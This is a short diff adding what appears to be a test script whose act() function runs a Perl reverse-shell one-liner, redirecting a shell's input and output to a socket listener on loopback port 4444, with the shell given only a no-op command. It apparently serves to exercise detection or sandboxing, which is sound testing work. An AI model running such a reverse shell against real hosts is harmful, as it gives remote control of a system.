@@ -1,0 +1,6 @@
+# perl starts a shell whose input and output are a connection to a listener on loopback.
+prepare() { listener 4444; }
+act() {
+    perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:4444") or die;
+        open STDIN, "<&", $s; open STDOUT, ">&", $s; exec "/bin/sh", "-c", ":"'
+}
